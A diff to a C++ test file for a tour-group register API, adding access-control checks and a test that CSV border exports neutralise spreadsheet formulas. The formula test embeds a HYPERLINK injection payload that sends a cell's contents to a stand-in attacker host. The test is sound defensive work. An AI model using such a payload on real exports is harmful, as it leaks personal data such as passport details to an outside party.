@@ -272,9 +272,11 @@ TEST_F(Register, AGroupTourFromDraftToTheBorderList) {
   EXPECT_EQ(status, 400u) << "a wrong check digit";
   EXPECT_EQ(j["details"]["parameter"], "mrz");
 
-  // Another operator's staff sees nothing of it; the authority nothing of a draft.
+  // Another operator's staff sees nothing of it, even from bad input; the authority nothing of a draft.
   auto const other = account("operator_staff", "other@tours.example");
   EXPECT_EQ(call("GET", "/api/v1/manifests/" + id, other).first, 403u);
+  EXPECT_EQ(call("POST", "/api/v1/manifests/" + id, other, json::object()).first, 403u);
+  EXPECT_EQ(call("PUT", "/api/v1/tours/" + id, other, {{"title", 5}}).first, 403u);
   EXPECT_EQ(call("GET", "/api/v1/tours/" + id, kg).first, 403u);
 
   std::tie(status, j) = call("POST", "/api/v1/tours/" + id + "/check", staff);
@@ -317,6 +319,27 @@ TEST_F(Register, AGroupTourFromDraftToTheBorderList) {
   EXPECT_NE(r.body.find("KZ-TO-0001"), std::string::npos);
   r = c.request("GET", "/api/v1/manifests/" + id + "?format=csv", {{"Authorization", "Bearer " + staff}});
   EXPECT_TRUE(r.body.starts_with(header.substr(0, header.size() - 1))) << "the export reads back in";
+
+  // A title a spreadsheet would run as a formula goes out as text.
+  std::tie(status, j) = call("POST", "/api/v1/tours", staff,
+                             {{"title", "=HYPERLINK(\"http://evil.example/?\"&E2,\"x\")"}, {"stays", programme["stays"]}});
+  ASSERT_EQ(status, 201u) << j.dump();
+  auto const formula = std::to_string(j["id"].get<int>());
+  call("POST", "/api/v1/manifests/" + formula, staff,
+       {{"latinName", "LI SI"}, {"nationality", "CN"}, {"passportNumber", "E55"}, {"passportExpiry", "2031-01-01"},
+        {"birthDate", "1981-01-01"}, {"sex", "M"}});
+  r = c.request("GET", "/api/v1/manifests/" + formula + "?format=border", {{"Authorization", "Bearer " + staff}});
+  ASSERT_EQ(r.status, 200u) << r.body;
+  EXPECT_NE(r.body.find(",\"'=HYPERLINK("), std::string::npos) << r.body;
+  EXPECT_EQ(r.body.find(",\"=HYPERLINK("), std::string::npos) << r.body;
+
+  // The register vouches for the tour's own stay only: not other dates.
+  auto later = trip(false);
+  later["stays"][0]["entry"] = "2029-01-01";
+  later["stays"][0]["exit"] = "2029-01-10";
+  std::tie(status, j) = call("POST", "/api/v1/entry/check", {}, later);
+  ASSERT_EQ(status, 200u) << j.dump();
+  EXPECT_FALSE(j["register"][0]["registered"].get<bool>());
 
   // No passport number or birth date in the server's log or in any error.
   for (auto const& line : server_->log_lines()) {
